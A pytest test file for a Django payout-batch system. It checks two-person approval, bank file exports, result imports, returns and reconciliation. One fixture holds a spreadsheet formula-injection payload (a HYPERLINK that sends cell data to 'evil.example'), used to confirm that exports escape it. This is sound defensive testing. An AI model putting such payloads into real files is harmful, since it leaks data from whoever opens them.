"""Payout batches through a test source: four eyes (refusals change nothing), accounts refused and listed,
explicit confirmation, bank files (columns, numeric amounts, total row, formula escaping, layouts),
bank results (import and by hand), returns with a message and re-issue, reconciliation sums."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from openpyxl import Workbook, load_workbook

from niangjia.core.errors import Conflict, Forbidden, Invalid
from niangjia.core.models import AuditEvent, BankLayout, Message, PayeeAccount, Payout, PayoutBatch
from niangjia.core.payouts import accounts, batches, sources
from niangjia.core.payouts import selectors as payout_selectors
from niangjia.core.spreadsheets import ImportRejected
from niangjia.core.tests.test_banking import UNIONPAY_16, UNIONPAY_19, VISA_TEST, luhn_complete

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


class FakeSource:
    """Items kept in memory; on_paid records what core reported."""

    def __init__(self):
        self.items, self.paid, self.returned = [], [], []

    def payable(self, *, actor, org, exclude, lock):
        taken = set(exclude.values_list("source_id", flat=True))
        return iter([i for i in self.items if i.source_id not in taken])

    def on_paid(self, *, actor, source_ids, when):
        self.paid += list(source_ids)

    def on_returned(self, *, actor, source_ids, reason):
        self.returned += list(source_ids)


@pytest.fixture
def fake(tree):
    src = FakeSource()
    sources.register(sources.PayoutSource(key="test", label="测试发放", budget="测试预算", payable=src.payable,
                                          on_paid=src.on_paid, on_returned=src.on_returned))
    return src


@pytest.fixture
def people(tree, make_member, fake):
    """Three members with accounts (one note is a formula) and one without an account."""
    members = [make_member(tree.union_a, name=n) for n in ("张三", "李四", "王五", "赵六")]
    for m, number in zip(members[:3], [UNIONPAY_19, UNIONPAY_16, VISA_TEST], strict=True):
        accounts.save_own_account(actor=m.user, holder=m.name, account_number=number, bank_name="中国工商银行",
                                  branch="杭州湖滨支行")
    amounts = [Decimal("1200.00"), Decimal("350.50"), Decimal("99.99"), Decimal("500.00")]
    fake.items = [sources.PayoutItem(source_id=i + 1, org_id=m.org_id, person_index=m.id_index, name=m.name,
                                     amount=a, purpose="测试用途", note=EVIL if i == 0 else f"发票{i}",
                                     user_id=m.user_id)
                  for i, (m, a) in enumerate(zip(members, amounts, strict=True))]
    return members


@pytest.fixture
def clerk(make_user, tree):
    return make_user(roles=[(tree.district_a, "staff")], name="出纳甲")


@pytest.fixture
def approver(make_user, tree):
    return make_user(roles=[(tree.district_a, "approver")], name="审批乙")


@pytest.fixture
def approver2(make_user, tree):
    return make_user(roles=[(tree.district_a, "approver")], name="审批丙")


def _create(actor, org, **kw):
    p = batches.preview_batch(actor=actor, source_key="test", org_id=org.pk)
    return batches.create_batch(actor=actor, source_key="test", org_id=org.pk, confirm_count=p.count,
                                confirm_total=p.total, **kw)


def _snapshot(batch):
    batch.refresh_from_db()
    return (batch.status, batch.released_by_id, batch.exported_at, AuditEvent.objects.count(),
            list(Payout.objects.filter(batch=batch).values_list("status", flat=True)))


def test_preview_lists_rows_without_an_account_and_batch_leaves_them_out(people, clerk, tree):
    p = batches.preview_batch(actor=clerk, source_key="test", org_id=tree.district_a.pk)
    assert (p.count, p.total) == (3, Decimal("1650.49"))
    assert [(r.name, r.amount, r.reason) for r in p.refused] == [("赵*", Decimal("500.00"), "未登记收款账户")]
    assert p.source.budget == "测试预算"
    batch, refused = _create(clerk, tree.district_a)
    assert (batch.count, batch.total, batch.status) == (3, Decimal("1650.49"), "draft")
    assert len(refused) == 1
    assert sorted(Payout.objects.values_list("source_id", flat=True)) == [1, 2, 3]


def test_create_needs_the_confirmed_figures(people, clerk, tree):
    for count, total in [(None, None), (3, "1650.48"), (2, "1650.49")]:
        with pytest.raises(Conflict, match="请先核对并确认：本次共 3 人、合计 1,650.49 元"):
            batches.create_batch(actor=clerk, source_key="test", org_id=tree.district_a.pk, confirm_count=count,
                                 confirm_total=total)
    assert not PayoutBatch.objects.exists() and not Payout.objects.exists()


def test_batch_refused_when_no_row_has_an_account(tree, make_member, fake, clerk):
    m = make_member(tree.union_a)
    fake.items = [sources.PayoutItem(1, m.org_id, m.id_index, m.name, Decimal("10.00"), "x")]
    with pytest.raises(Invalid, match="都没有可用的收款账户"):
        batches.create_batch(actor=clerk, source_key="test", org_id=tree.district_a.pk, confirm_count=0,
                             confirm_total=0)
    assert not PayoutBatch.objects.exists()


def test_four_eyes_the_preparer_cannot_release_and_nothing_changes(people, approver, tree):
    batch, _ = _create(approver, tree.district_a)
    before = _snapshot(batch)
    with pytest.raises(Forbidden, match="双人复核"):
        batches.release_batch(actor=approver, batch_id=batch.pk, confirm_count=3, confirm_total="1650.49")
    assert _snapshot(batch) == before
    assert not payout_selectors.actions_for(actor=approver, batch=batch).release


def test_four_eyes_whoever_prepared_a_row_cannot_release(people, fake, clerk, approver, approver2, tree):
    fake.items = [sources.PayoutItem(**{**i.__dict__, "prepared_by_id": approver.pk}) for i in fake.items]
    batch, _ = _create(clerk, tree.district_a)
    before = _snapshot(batch)
    with pytest.raises(Forbidden, match="双人复核"):
        batches.release_batch(actor=approver, batch_id=batch.pk, confirm_count=3, confirm_total="1650.49")
    assert _snapshot(batch) == before
    batches.release_batch(actor=approver2, batch_id=batch.pk, confirm_count=3, confirm_total="1650.49")
    batch.refresh_from_db()
    assert (batch.status, batch.released_by_id) == ("released", approver2.pk)


def test_four_eyes_is_also_a_database_constraint(people, clerk, tree):
    batch, _ = _create(clerk, tree.district_a)
    with pytest.raises(IntegrityError), transaction.atomic():
        PayoutBatch.objects.filter(pk=batch.pk).update(released_by=clerk)


def test_staff_cannot_release_and_release_needs_confirmation(people, clerk, approver, tree, make_user):
    batch, _ = _create(approver, tree.district_a)
    other_clerk = make_user(roles=[(tree.district_a, "staff")])
    before = _snapshot(batch)
    with pytest.raises(Forbidden):
        batches.release_batch(actor=other_clerk, batch_id=batch.pk, confirm_count=3, confirm_total="1650.49")
    assert _snapshot(batch) == before


def _released(clerk, approver, tree):
    batch, _ = _create(clerk, tree.district_a)
    batches.release_batch(actor=approver, batch_id=batch.pk, confirm_count=batch.count, confirm_total=batch.total)
    return batch


def test_export_only_after_release(people, clerk, approver, tree):
    batch, _ = _create(clerk, tree.district_a)
    with pytest.raises(Conflict, match="尚未经第二人放行"):
        batches.export_batch(actor=approver, batch_id=batch.pk, fmt="xlsx")
    batch.refresh_from_db()
    assert batch.exported_at is None


def test_xlsx_bank_file_columns_numeric_amounts_total_row_and_escaping(people, clerk, approver, tree):
    batch = _released(clerk, approver, tree)
    name, data, _ = batches.export_batch(actor=approver, batch_id=batch.pk, fmt="xlsx")
    assert name.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("序号", "户名", "账号", "开户行", "金额", "用途", "备注")
    assert rows[1][:5] == (1, "张三", UNIONPAY_19, "中国工商银行杭州湖滨支行", 1200)
    assert rows[1][6] == "'" + EVIL  # text, never a formula
    assert sheet.cell(row=2, column=7).data_type == "s"
    amount = sheet.cell(row=2, column=5)
    assert amount.data_type == "n" and amount.number_format == "0.00"
    assert rows[-1][0] == "合计" and Decimal(str(rows[-1][4])) == Decimal("1650.49") and rows[-1][6] == "共 3 笔"
    assert len(rows) == 5
    assert AuditEvent.objects.filter(action="pii.reveal", object_id=str(batch.pk)).exists()


def test_csv_bank_file_is_utf8_with_bom_and_escaped(people, clerk, approver, tree):
    batch = _released(clerk, approver, tree)
    _, data, content_type = batches.export_batch(actor=approver, batch_id=batch.pk, fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf") and "utf-8" in content_type
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0] == ["序号", "户名", "账号", "开户行", "金额", "用途", "备注"]
    assert lines[1] == ["1", "张三", UNIONPAY_19, "中国工商银行杭州湖滨支行", "1200.00", "测试用途", "'" + EVIL]
    assert len(lines) == 4  # no total row: banks read every line as a payment


def test_per_bank_column_order_is_data(people, clerk, approver, tree):
    layout = BankLayout.objects.get(code="account_first")
    batch, _ = _create(clerk, tree.district_a, layout_id=layout.pk)
    batches.release_batch(actor=approver, batch_id=batch.pk, confirm_count=3, confirm_total="1650.49")
    _, data, _ = batches.export_batch(actor=approver, batch_id=batch.pk, fmt="csv")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0] == layout.columns == ["序号", "账号", "户名", "金额", "开户行", "用途", "备注"]
    assert lines[1][:4] == ["1", UNIONPAY_19, "张三", "1200.00"]


def _result_file(rows, header=("序号", "户名", "账号", "金额", "结果", "失败原因")):
    wb = Workbook()
    wb.active.append(list(header))
    for r in rows:
        wb.active.append(list(r))
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile("result.xlsx", buf.getvalue())


def test_results_import_settles_rows_returns_message_the_worker_and_reissue(people, fake, clerk, approver,
                                                                            approver2, tree):
    batch = _released(clerk, approver, tree)
    batches.export_batch(actor=approver, batch_id=batch.pk, fmt="xlsx")
    upload = _result_file([(1, "张三", UNIONPAY_19, 1200, "成功", ""), (2, "李四", UNIONPAY_16, "350.50", "失败", "户名与账号不符")])
    summary = batches.import_results(actor=approver, batch_id=batch.pk, upload=upload)
    assert (summary.paid, summary.returned) == (1, 1)
    batch.refresh_from_db()
    assert batch.status == "released"  # row 3 still at the bank: not "paid" until every row is settled
    assert fake.paid == [1] and fake.returned == [2]
    lisi = people[1]
    assert PayeeAccount.objects.get(person_index=lisi.id_index).needs_fix_reason == "户名与账号不符"
    msg = Message.objects.get(recipient=lisi.user, kind="payout.returned")
    assert "户名与账号不符" in msg.body and msg.link == "/me/payee/"
    # the returned item is payable again only once the worker fixed the account
    assert [r.reason[:4] for r in batches.preview_batch(actor=clerk, source_key="test",
                                                        org_id=tree.district_a.pk).refused] == ["上次退票", "未登记收"]
    accounts.save_own_account(actor=lisi.user, holder="李四", account_number=luhn_complete("621700123456789012"),
                              bank_name="中国建设银行")
    batches.mark_rows(actor=approver, batch_id=batch.pk, row_ids=[Payout.objects.get(batch=batch, seq=3).pk],
                      paid=True)
    batch.refresh_from_db()
    assert batch.status == "settled" and batch.settled_at
    again, _ = _create(clerk, tree.district_a)
    assert list(again.rows.values_list("source_id", "account_tail")) == [(2, luhn_complete("621700123456789012")[-4:])]
    rec = payout_selectors.reconciliation(batch)
    assert rec.balanced
    assert [(line.count, line.total) for line in rec.lines()] == [
        (3, Decimal("1650.49")), (3, Decimal("1650.49")), (2, Decimal("1299.99")), (1, Decimal("350.50")),
        (0, Decimal("0.00")), (1, Decimal("350.50"))]
    assert approver2  # a second approver exists but was not needed after release


@pytest.mark.parametrize(("rows", "reason"), [
    ([(9, "", "", "", "成功", "")], "本批次没有序号 9"),
    ([(1, "", "", "1200.01", "成功", "")], "金额 1200.01 与批次中的 1200.00 不一致"),
    ([(1, "", "6222000000000000000", "", "成功", "")], "账号与批次中的不一致"),
    ([(1, "", "", "", "成功", ""), (1, "", "", "", "成功", "")], "序号 1 重复出现"),
    ([(1, "", "", "", "处理中", "")], "无法识别"),
    ([(1, "", "", "sNaN", "成功", "")], "金额必须是数字"),  # a signalling NaN used to raise in the comparison
    ([(1, "", "", "1e309", "成功", "")], "金额必须是数字"),
    ([(1, "", "", "１２００", "成功", "")], "半角数字"),
    ([(1, "", "", "1200.001", "成功", "")], "两位小数"),
])
def test_a_bad_result_line_refuses_the_whole_file(people, fake, clerk, approver, tree, rows, reason):
    batch = _released(clerk, approver, tree)
    batches.export_batch(actor=approver, batch_id=batch.pk, fmt="csv")
    before = _snapshot(batch)
    with pytest.raises(ImportRejected) as exc:
        batches.import_results(actor=approver, batch_id=batch.pk, upload=_result_file([(2, "", "", "", "成功", ""), *rows]))
    assert any(reason in e.reason for e in exc.value.errors)
    assert _snapshot(batch) == before and fake.paid == []


def test_results_before_export_are_refused(people, clerk, approver, tree):
    batch = _released(clerk, approver, tree)
    with pytest.raises(Conflict, match="导出银行文件"):
        batches.mark_rows(actor=approver, batch_id=batch.pk, row_ids=[batch.rows.first().pk], paid=True)


def test_returning_by_hand_needs_a_reason(people, fake, clerk, approver, tree):
    batch = _released(clerk, approver, tree)
    batches.export_batch(actor=approver, batch_id=batch.pk, fmt="csv")
    row = batch.rows.get(seq=1)
    before = _snapshot(batch)
    with pytest.raises(Invalid, match="退票原因"):
        batches.mark_rows(actor=approver, batch_id=batch.pk, row_ids=[row.pk], paid=False)
    assert _snapshot(batch) == before
    batches.mark_rows(actor=approver, batch_id=batch.pk, row_ids=[row.pk], paid=False, reason="账户已销户")
    assert fake.returned == [1]


def test_an_item_is_never_in_two_live_rows(people, clerk, tree):
    batch, _ = _create(clerk, tree.district_a)
    row = batch.rows.first()
    with pytest.raises(IntegrityError), transaction.atomic():
        Payout.objects.create(batch=batch, seq=99, source="test", source_id=row.source_id, org_id=row.org_id,
                              person_index=row.person_index, holder="x", account_number="1", account_tail="1",
                              bank_name="x", amount=1, purpose="x")


def test_csv_results_in_gbk_are_read(people, fake, clerk, approver, tree):
    batch = _released(clerk, approver, tree)
    batches.export_batch(actor=approver, batch_id=batch.pk, fmt="csv")
    text = "序号,结果,失败原因\r\n1,成功,\r\n2,成功,\r\n3,退票,账号不存在\r\n"
    batches.import_results(actor=approver, batch_id=batch.pk,
                           upload=SimpleUploadedFile("r.csv", text.encode("gb18030")))
    batch.refresh_from_db()
    assert batch.status == "settled" and fake.paid == [1, 2] and fake.returned == [3]


def test_own_account_bad_card_changes_nothing(make_member, tree):
    m = make_member(tree.union_a)
    before = AuditEvent.objects.count()
    with pytest.raises(Invalid, match="校验不通过"):
        accounts.save_own_account(actor=m.user, holder="王师傅", account_number=UNIONPAY_19[:-1] + "0"
                                  if UNIONPAY_19[-1] != "0" else UNIONPAY_19[:-1] + "1", bank_name="工行")
    assert not PayeeAccount.objects.exists() and AuditEvent.objects.count() == before


def test_account_change_is_audited_masked(make_member, tree):
    m = make_member(tree.union_a)
    accounts.save_own_account(actor=m.user, holder="王师傅", account_number=UNIONPAY_19, bank_name="工行")
    accounts.save_own_account(actor=m.user, holder="王师傅", account_number=VISA_TEST, bank_name="招行")
    event = AuditEvent.objects.filter(action="payee.account_change").latest("id")
    assert event.summary["before"].endswith(UNIONPAY_19[-4:]) and event.summary["after"].endswith("1111")
    assert UNIONPAY_19 not in str(event.summary) and VISA_TEST not in str(event.summary)
    from django.db import connection

    with connection.cursor() as cur:
        cur.execute("SELECT account_number FROM core_payeeaccount")
        raw = cur.fetchone()[0]
    assert VISA_TEST not in raw and raw.startswith("v")  # encrypted at rest


def test_staff_entered_account_waits_for_the_workers_confirmation(make_member, make_user, tree):
    m = make_member(tree.union_a)
    staff = make_user(roles=[(tree.union_a, "staff")])
    account = accounts.save_account_for_member(actor=staff, member_id=m.pk, holder="王师傅",
                                               account_number=UNIONPAY_19, bank_name="工行")
    assert accounts.unusable_reason(account) == "工作人员代录的账户尚未经本人确认"
    assert Message.objects.filter(recipient=m.user, kind="payee.entered").exists()
    accounts.confirm_own_account(actor=m.user)
    account.refresh_from_db()
    assert accounts.unusable_reason(account) == ""


@pytest.mark.parametrize("account", ["", "6222020200112233440"])  # empty; one digit off (Luhn fails)
def test_a_row_without_a_valid_account_cannot_be_marked_paid(people, clerk, approver, tree, account):
    """The relief bank CSV once had an empty account number and could still be marked paid (issue 11)."""
    batch = _released(clerk, approver, tree)
    batches.export_batch(actor=approver, batch_id=batch.pk, fmt="csv")
    row = Payout.objects.get(batch=batch, seq=1)
    row.account_number, row.account_tail = account, account[-4:]
    row.save(update_fields=["account_number", "account_tail"])
    before = _snapshot(batch)
    with pytest.raises(Conflict, match="没有有效的收款账号"):
        batches.mark_rows(actor=approver, batch_id=batch.pk, row_ids=[row.pk], paid=True)
    assert _snapshot(batch) == before
    batches.mark_rows(actor=approver, batch_id=batch.pk, row_ids=[row.pk], paid=False, reason="账号有误")
    row.refresh_from_db()
    assert row.status == "returned"
